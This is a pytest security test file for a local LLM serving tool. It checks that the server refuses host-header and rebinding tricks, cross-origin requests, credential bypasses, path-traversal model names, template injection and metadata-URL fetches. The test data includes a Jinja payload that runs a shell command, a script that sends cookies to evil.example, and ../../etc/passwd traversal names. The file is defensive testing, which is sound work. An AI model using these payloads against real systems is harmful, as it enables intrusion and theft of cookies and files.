"""Attacks by name: other hosts, other pages, every credential on every route, names that are paths, and the rest."""

from __future__ import annotations

import asyncio
import hashlib
import json
import ssl
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import browser
import httpx
import pytest
from served import BODY, CHAT, KEY, Running, error_of, keyed, running
from starlette.datastructures import Headers
from starlette.responses import JSONResponse

from netsuke.errors import EngineError, NetsukeError
from netsuke.serve import Address, Callers, Folders, usage
from netsuke.serve.guard import Guard
from netsuke.serve.refused import Refused
from netsuke.serve.routes import Routes
from netsuke.serve.writer import Writer


def _asked(server: Running) -> float:
    """How many requests the engine has seen."""
    with server.client() as client:
        lines = client.get("/metrics").text.splitlines()
    return sum(float(line.split()[-1]) for line in lines if line.startswith("netsuke_request_seconds_count"))


@pytest.fixture
def untouched(server: Running) -> Iterator[Running]:
    """A server whose engine must see nothing of what the test sends."""
    before = _asked(server)
    yield server
    assert _asked(server) == before


HOSTS = ["evil.example", "evil.example@127.0.0.1", "127.0.0.1.nip.io", "localhost.evil.example", "127.0.0.1:1", "[::2]",
         "127.1", "0x7f.1", "2130706433", "localhost:", "127.0.0.1,evil.example"]  # fmt: skip


@pytest.mark.parametrize("host", HOSTS)
def test_attack_1_another_host_name_reaches_nothing(untouched: Running, host: str) -> None:
    with untouched.client(Host=host) as client:
        for path, body in ((CHAT, BODY), ("/api/chat", {"model": "tiny", **BODY}), ("/nowhere", {})):
            answer = client.post(path, json=body)
            assert answer.status_code in (400, 421) and "access-control-allow-origin" not in answer.headers


@browser.needed
def test_attack_1_a_rebound_name_in_a_real_browser(server: Running) -> None:
    with browser.opened() as page:
        for name in ("localhost", "127.0.0.1"):
            assert page.goto(f"http://{name}:{server.port}/health").status == 200
        answer = page.goto(f"http://rebound.localhost:{server.port}/health")  # browsers resolve it to this machine
        assert answer.status == 421


FORMS = [("text/plain", json.dumps(BODY)), ("application/x-www-form-urlencoded", "model=tiny"),
         (None, json.dumps(BODY)), ("multipart/form-data; boundary=x", "--x--"),
         ("application/json; charset=utf-8x, text/plain", "{")]  # fmt: skip


@pytest.mark.parametrize(("kind", "body"), FORMS)
@pytest.mark.parametrize("path", [CHAT, "/api/generate", "/v1/messages", "/infill"])
def test_attack_2_a_form_of_another_page_is_refused(untouched: Running, kind: str | None, body: str, path: str) -> None:
    headers = {"Content-Type": kind} if kind else {}
    for origin in ("null", "https://evil.example", f"http://localhost.evil.example:{untouched.port}"):
        with untouched.client(Origin=origin) as client:
            answer = client.post(path, content=body, headers=headers)
            assert answer.status_code == 403 and "access-control-allow-origin" not in answer.headers
    with untouched.client() as client:
        assert client.post(path, content=body, headers=headers).status_code in (400, 415)


@browser.needed
def test_attack_2_another_page_in_a_real_browser_drives_nothing(server: Running) -> None:
    attack = """async ([url, key]) => {
        const out = [];
        for (const headers of [{}, {'Content-Type': 'text/plain'}, {Authorization: 'Bearer ' + key}])
            try { out.push((await fetch(url, {method: 'POST', body: '{}', headers, mode: 'cors'})).status) }
            catch (error) { out.push('blocked') }
        return out }"""
    before = _asked(server)
    with running_page() as address, browser.opened() as page:
        page.goto(address)
        assert page.evaluate(attack, [f"{server.url}{CHAT}", KEY]) == ["blocked"] * 3
    assert _asked(server) == before


def running_page() -> Any:
    """Some other page on another port of this machine."""
    import contextlib
    import http.server
    import threading

    @contextlib.contextmanager
    def opened() -> Iterator[str]:
        class Quiet(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.end_headers()
                self.wfile.write(b"<p>another page</p>")

            def log_message(self, *_: object) -> None: ...

        with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Quiet) as other:
            thread = threading.Thread(target=other.serve_forever)
            thread.start()
            yield f"http://127.0.0.1:{other.server_address[1]}/"
            other.shutdown()
            thread.join()

    return opened()


CREDENTIALS: list[tuple[dict[str, str], str, bool]] = [
    ({}, "", False),
    ({"Authorization": "Bearer nsk-wrong"}, "", False),
    ({"x-api-key": "nsk-wrong"}, "", False),
    ({"Authorization": f"Bearer {KEY}"}, "", True),
    ({"x-api-key": KEY}, "", True),
    ({}, f"?key={KEY}&api_key={KEY}&access_token={KEY}", False),
    ({"Cookie": f"key={KEY}; netsuke_session={KEY}; Authorization=Bearer {KEY}"}, "", False),
    ({"Authorization": f"Basic {KEY}"}, "", False),
    ({"X-Forwarded-For": "127.0.0.1", "X-Real-IP": "127.0.0.1", "Forwarded": "for=127.0.0.1"}, "", False),
    ({"X-HTTP-Method-Override": "GET", "X-Original-URL": "/health", "X-Rewrite-URL": "/health"}, "", False),
]


@pytest.mark.parametrize(("headers", "query", "let_in"), CREDENTIALS)
def test_attack_3_one_decision_on_every_route(
    server: Running, headers: dict[str, str], query: str, let_in: bool
) -> None:
    routes = Routes(server.shelf, Writer(server.home)).paths
    paths = [*routes, "/", "/nowhere", "/v1", "/v1/models/", "/slots", "/props", "/tokenize", "/lora-adapters",
             "/api/pull", "/docs",
             "/v1/%2e%2e/health", "/%2e%2e/health", "/HEALTH", "/health/", "/health%00", "/health/%2e%2e"]  # fmt: skip
    with httpx.Client(base_url=server.url, headers=headers, trust_env=False) as client:
        for path in paths:
            for method in ("GET", "POST", "PUT", "DELETE", "OPTIONS", "PATCH"):
                status = client.request(method, path + query).status_code
                if path == "/health" and method == "GET":
                    assert status == 200
                else:
                    assert (status != 401) == let_in, (method, path, status)


NAMES = ["../../etc/passwd", "..", "%2e%2e%2f", "tiny/../tiny", "/etc/passwd", "tiny\0", "a" * 63, "f" * 64, "f" * 65,
         ".hidden", "tiny.json", "names", "C:\\x", "tïny", "\u202etiny", "tiny\n"]  # fmt: skip


@pytest.mark.parametrize("name", NAMES)
def test_attack_4_a_name_is_never_a_path(server: Running, name: str) -> None:
    before = _tree(server.home)
    with server.client() as client:
        for path, body in (
            (CHAT, {**BODY, "model": name}), ("/api/show", {"model": name}),
            ("/v1/embeddings", {"model": name, "input": "x"}), ("/infill", {"model": name, "input_prefix": "x"}),
        ):  # fmt: skip
            assert client.post(path, json=body).status_code == 404, path
    assert _tree(server.home) == before
    if "\0" not in name:  # which no command line can hold
        with pytest.raises(NetsukeError):
            _models(name)


def _models(name: str) -> None:
    from netsuke.cli.serving import _models as models
    from netsuke.store import Store

    models((name,), Store())


def _tree(folder: Path) -> dict[str, str]:
    """Every file but the book, which keeps who asked."""
    files = [file for file in folder.rglob("*") if file.is_file() and not file.name.startswith("served.db")]
    return {str(file): hashlib.sha256(file.read_bytes()).hexdigest() for file in files}


def test_attack_7_no_template_is_rendered_by_python() -> None:
    code = "import sys, netsuke.serve, netsuke.cli.serving; print({'jinja2', 'torch', 'pickle'} & set(sys.modules))"
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert not {"jinja2", "torch"} & set(done.stdout.replace("'", " ").replace("{", " ").replace("}", " ").split())


def test_attack_7_a_request_brings_no_template_of_its_own(server: Running) -> None:
    gadget = "{{ cycler.__init__.__globals__.os.popen('id').read() }}"
    with server.client() as client:
        for field in ("chat_template", "chat_template_kwargs", "jinja", "grammar_lazy", "lora", "id_slot", "n_discard"):
            error_of(client.post(CHAT, json={**BODY, field: gadget}), 400, "unknown_field")
        body = {"model": "tiny", "prompt": "x", "template": gadget}
        assert client.post("/api/generate", json=body).status_code == 501
        assert client.post(CHAT, json={**BODY, "messages": [{"role": "user", "content": gadget}]}).status_code == 200


def test_attack_8_nothing_is_unpickled(model: Path) -> None:
    code = f"""
import sys
seen = []
sys.addaudithook(lambda event, _: seen.append(event) if event.startswith("pickle.") else None)
sys.path.insert(0, {str(Path(__file__).parent.parent)!r})
from pathlib import Path
from served import BODY, CHAT, running
with running(Path({str(model)!r})) as server, server.client() as client:
    assert client.post(CHAT, json=BODY).status_code == 200
    assert client.post("/v1/embeddings", json={{"input": "x"}}).status_code == 200
print(seen)
"""
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True)
    assert done.stdout.strip() == "[]", done.stderr


def test_attack_9_what_a_model_writes_is_data(server: Running) -> None:
    attack = "<script>fetch('https://evil.example/'+document.cookie)</script><img src=https://evil.example/x>"
    body = {"prompt": "a", "max_tokens": 200, "grammar": f"root ::= {json.dumps(attack)}"}
    with server.client() as client:
        for stream in (False, True):
            answer = client.post("/v1/completions", json={**body, "stream": stream})
            assert answer.headers["content-type"].split(";")[0] in ("application/json", "text/event-stream")
            assert answer.headers["x-content-type-options"] == "nosniff"
            assert "default-src 'none'" in answer.headers["content-security-policy"]
        assert client.post("/v1/completions", json=body).json()["choices"][0]["text"] == attack
        names = error_of(client.post(CHAT, json={**BODY, "model": attack}), 404)
        assert "<script>" in names["message"]  # as JSON, which no browser runs


def test_no_address_in_a_request_is_fetched(untouched: Running) -> None:
    url = "http://169.254.169.254/latest"
    parts = [{"type": "image_url", "image_url": {"url": url}}]
    schema = {"type": "json_schema", "json_schema": {"schema": {"$ref": url}}}
    deep: Any = {}
    for _ in range(40):
        deep = {"properties": {"a": deep}}
    with untouched.client() as client:
        error_of(client.post(CHAT, json={**BODY, "messages": [{"role": "user", "content": parts}]}), 400)
        told = error_of(client.post(CHAT, json={**BODY, "response_format": schema}), 400)["message"]
        assert "nothing is fetched" in told
        schema["json_schema"]["schema"] = deep  # type: ignore[index]
        assert "deeper" in error_of(client.post(CHAT, json={**BODY, "response_format": schema}), 400)["message"]


def test_a_key_that_is_refused_costs_nothing(server: Running) -> None:
    with keyed(server, "refused", models=["gone"]) as client:
        for _ in range(3):
            error_of(client.post(CHAT, json=BODY), 403)
    assert usage.rows(server.home, "refused") == []


# -- addresses -------------------------------------------------------------------------------------------
def test_an_open_address_needs_tls_or_a_plain_word(tmp_path: Path) -> None:
    with pytest.raises(EngineError, match="open to the network") as caught:
        Address("192.0.2.1").checked()
    assert "--cert" in (caught.value.hint or "")
    assert Address("192.0.2.1", plain=True).checked().names == ("192.0.2.1",)
    with pytest.raises(EngineError, match="which name"):
        Address("0.0.0.0", plain=True).checked()
    assert Address("0.0.0.0", names=("notes.example",), plain=True).checked().names == ("notes.example",)
    with pytest.raises(EngineError, match="needs its key"):
        Address("192.0.2.1", certificate=tmp_path).checked()
    assert Address().checked().names == () and Address("::1").checked().is_loopback


@pytest.mark.parametrize("host", ["127.0.0.1", "127.0.0.2", "::1", "0:0:0:0:0:0:0:1", "localhost"])
def test_the_address_that_is_printed_answers(tmp_path: Path, host: str) -> None:
    address, callers = Address(host).checked(), Callers(tmp_path, KEY)
    guard = Guard(JSONResponse({}), callers=callers, port=address.port, hosts=address.names)

    async def asked(url: str) -> int:
        async with httpx.AsyncClient(transport=httpx.ASGITransport(app=guard), base_url=url) as client:
            return (await client.get("/health", headers={"Host": url.partition("//")[2]})).status_code

    assert asyncio.run(asked(address.url)) == 200 and asyncio.run(asked("http://127.0.0.3:8177")) == 421
    callers.close()


def test_a_name_may_tell_the_port_of_a_proxy(tmp_path: Path) -> None:
    told = ("notes.example:8443", "2001:db8::1", "[2001:db8::2]:8443")
    address = Address("0.0.0.0", names=told, plain=True).checked()
    assert address.names == ("notes.example:8443", "[2001:db8::1]", "[2001:db8::2]:8443")
    assert address.url == "http://notes.example:8443"
    callers = Callers(tmp_path, KEY)
    guard = Guard(JSONResponse({}), callers=callers, port=address.port, hosts=address.names)
    for host in ("notes.example:8443", "[2001:db8::1]", "[2001:db8::1]:8177", "[2001:db8::2]:8443"):
        origin = {"host": host, "origin": f"https://{host}"}
        assert guard.check("GET", "/health", Headers(origin)) is None
    for host in ("notes.example", "notes.example:8177", "notes.example:8444"):
        with pytest.raises(Refused):
            guard.check("GET", "/health", Headers({"host": host}))
    callers.close()


def test_tls_is_spoken_and_a_bad_certificate_is_said(model: Path, tmp_path: Path) -> None:
    from served import free_port

    certificate, key = _certificate(tmp_path)
    port = free_port()
    code = """
import sys
from pathlib import Path
from netsuke.serve import Address, Folders, Shelf, serve
model, home, certificate, key, port, secret = sys.argv[1:]
address = Address("127.0.0.1", int(port), (), Path(certificate), Path(key))
serve(Shelf(Folders({"tiny": Path(model)}), threads=1), address, home=Path(home), key=secret,
      on_ready=lambda: print("ready", flush=True))
"""
    given = [model, tmp_path / "home", certificate, key, port, KEY]
    command = [sys.executable, "-c", code, *map(str, given)]
    with subprocess.Popen(command, stdout=subprocess.PIPE, text=True) as server:
        try:
            assert server.stdout and server.stdout.readline() == "ready\n"
            trusted = ssl.create_default_context(cafile=certificate)
            with httpx.Client(base_url=f"https://127.0.0.1:{port}", verify=trusted, trust_env=False) as client:
                client.headers["x-api-key"] = KEY
                assert client.post(CHAT, json=BODY).status_code == 200
                ours = {"Origin": f"https://localhost:{port}"}
                assert client.get("/v1/models", headers=ours).status_code == 200
                assert client.get("/v1/models", headers={"Origin": f"http://localhost:{port}"}).status_code == 403
        finally:
            server.terminate()
    certificate.write_text("no certificate")
    done = subprocess.run(command, capture_output=True, text=True)
    assert done.returncode and "the certificate cannot be used" in done.stderr


def _certificate(folder: Path) -> tuple[Path, Path]:
    import datetime
    import ipaddress

    from cryptography import x509
    from cryptography.hazmat.primitives import hashes, serialization
    from cryptography.hazmat.primitives.asymmetric import ec

    key = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(x509.NameOID.COMMON_NAME, "localhost")])
    now = datetime.datetime.now(datetime.UTC)
    made = (
        x509.CertificateBuilder().subject_name(name).issuer_name(name).public_key(key.public_key())
        .serial_number(1).not_valid_before(now).not_valid_after(now + datetime.timedelta(days=1))
        .add_extension(x509.SubjectAlternativeName([x509.IPAddress(ipaddress.ip_address("127.0.0.1"))]), False)
        .sign(key, hashes.SHA256())
    )  # fmt: skip
    (folder / "cert.pem").write_bytes(made.public_bytes(serialization.Encoding.PEM))
    private = key.private_bytes(
        serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()
    )
    (folder / "key.pem").write_bytes(private)
    return folder / "cert.pem", folder / "key.pem"


def test_odd_prompts_have_a_defined_end(server: Running) -> None:
    """Fault 16: right to left, emoji, control characters, lone surrogates, one line of a megabyte."""
    kinds = {"application/json": "application/json"}
    odd = ["\u202eright to left", "👩‍👩‍👧‍👦" * 50, "\x00\x01\x1f", "a\u0300" * 200, "", " ", "\u2028\u2029\x85"]
    with server.client() as client:
        for text in odd:
            assert client.post(CHAT, json={**BODY, "messages": [{"role": "user", "content": text}]}).status_code == 200
        long = json.dumps({**BODY, "messages": [{"role": "user", "content": "x" * 1_000_000}]})
        error_of(client.post(CHAT, content=long, headers={"Content-Type": kinds["application/json"]}), 413)
        lone = b'{"messages": [{"role": "user", "content": "\\ud800"}]}'
        error_of(client.post(CHAT, content=lone, headers={"Content-Type": "application/json"}), 400)


def test_models_in_folders_are_served_by_their_own_names(model: Path) -> None:
    with running(Folders({"ünïcode": model})) as server, server.client() as client:
        assert client.post(CHAT, json={**BODY, "model": "ünïcode"}).json()["model"] == "ünïcode"
